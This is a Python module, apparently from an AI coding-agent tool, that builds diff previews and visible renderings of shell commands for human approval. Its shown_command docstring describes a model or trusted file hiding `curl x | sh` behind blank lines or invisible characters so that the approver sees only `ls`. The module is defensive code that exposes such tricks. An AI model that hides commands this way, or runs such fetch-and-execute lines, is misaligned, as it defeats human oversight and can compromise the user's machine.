"""What the person sees before approving a file change: a unified diff of it.

The change is applied in memory to the file as it is now (the same exact-match rules the
`edit` tools use, simplified: the first occurrence, or all with `replace_all`); nothing is
written. A file that cannot be read or an `old` text that is not found gives a short note
instead, and the tool itself reports the real error when it runs. A file over
`MAX_PREVIEW_BYTES` is not read at all (the decision runs on the event loop, and a diff of a
50 MB file took 5 s there, stalling every peer): the preview shows the change alone.
"""

from __future__ import annotations

import os
import re
from collections.abc import Mapping
from pathlib import Path
from typing import Any

from moot.frontend.display import shown_path
from moot.workspace.diff import MAX_DIFF_LINES, unified_diff
from moot.workspace.no_follow import PathRefused, read_file_bytes
from moot.workspace.paths import Workspace

MAX_PREVIEW_BYTES = 1024 * 1024
"""Larger files are not diffed for a preview; the change is shown on its own."""


def diff_preview(root: Path, tool: str, args: Mapping[str, Any]) -> str | None:
    """A unified diff for write, edit and multi_edit calls; None for other tools."""
    if tool not in ("write", "edit", "multi_edit") or not isinstance(args.get("path"), str):
        return None
    path = args["path"]
    workspace = Workspace(root)
    try:
        target = workspace.resolve_read(path)
        # As the person reads it: relative inside the workspace (`--- a/hello.py`), though the
        # model may name the file by its absolute path (`a//home/...` before).
        path = shown_path(path, str(root))
        size = os.stat(target, follow_symlinks=False).st_size
        if size > MAX_PREVIEW_BYTES:
            return _change_alone(path, size, tool, args)
        before = read_file_bytes(root, target)[0].decode("utf-8", "replace")
    except FileNotFoundError:
        before = None
    except (OSError, PathRefused) as exc:
        return f"(no preview of {path}: {exc})"
    after = _apply(tool, args, before or "")
    if after is None:
        return f"(no preview of {path}: the text to replace is not in the file as it is now)"
    if after == before:  # an empty diff would leave the approval showing no change at all
        return f"(no change: {path} already holds exactly this)"
    return unified_diff(before, after, path)


def _change_alone(path: str, size: int, tool: str, args: Mapping[str, Any]) -> str:
    """What a change to a file too large to diff does, shown without the file."""
    head = f"({path} is {size:,} bytes, too large to diff here; the change on its own:)"
    lines = [head]
    if tool == "write":
        content = args.get("content")
        lines.append("(the whole file is replaced by)")
        lines += [f"+{line}" for line in str(content or "").splitlines()]
    edits = args.get("edits") if tool == "multi_edit" else [args] if tool == "edit" else []
    for edit in edits if isinstance(edits, list) else ():
        if isinstance(edit, dict):
            lines += [f"-{line}" for line in str(edit.get("old", "")).splitlines()]
            lines += [f"+{line}" for line in str(edit.get("new", "")).splitlines()]
    if len(lines) > MAX_DIFF_LINES:
        lines = [*lines[:MAX_DIFF_LINES], f"... {len(lines) - MAX_DIFF_LINES} more lines"]
    return "\n".join(lines) + "\n"


def _apply(tool: str, args: Mapping[str, Any], text: str) -> str | None:
    if tool == "write":
        content = args.get("content")
        return content if isinstance(content, str) else None
    edits = args.get("edits") if tool == "multi_edit" else [args]
    if not isinstance(edits, list):
        return None
    for edit in edits:
        old, new = (edit.get("old"), edit.get("new")) if isinstance(edit, dict) else (None, None)
        if not isinstance(old, str) or not isinstance(new, str) or not old or old not in text:
            return None
        text = text.replace(old, new) if edit.get("replace_all") else text.replace(old, new, 1)
    return text


_INVISIBLE = (
    r"(?:[^\S\n]|[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff])"
)
"""What shows as nothing: blanks (Unicode's too), controls (a front end drops them) and the
zero-width and direction marks."""
_LONG_SPACE = re.compile(f"{_INVISIBLE}{{16,}}")
"""A run of them long enough to push the rest of a line out of sight, or onto lines that wrap
blank."""
_ANY_INVISIBLE = re.compile(_INVISIBLE)


def shown_command(command: str) -> str:
    """A command line as an approval shows it: what it runs, none of it out of sight.

    A model (or a file it was told to trust) can hide the part that matters after a screenful
    of blank lines (`ls` + 60 newlines + `curl x | sh`) or a run of spaces: the pane showed
    `$ ls` and blank space. Each run of more than one blank line becomes one line saying how
    many, a long run of blanks within a line says its length, and trailing blanks go. What
    runs is the command as given.
    """
    command = _LONG_SPACE.sub(lambda run: f" ⟨{len(run[0])} blanks⟩ ", command)
    shown: list[str] = []
    blank = 0
    for line in [*command.split("\n"), None]:
        if line is not None and not _ANY_INVISIBLE.sub("", line):
            blank += 1
            continue
        if blank:
            shown.extend([""] if blank == 1 else [f"⟨{blank} blank lines⟩"])
            blank = 0
        if line is not None:
            shown.append(line.rstrip())
    return "\n".join(shown)
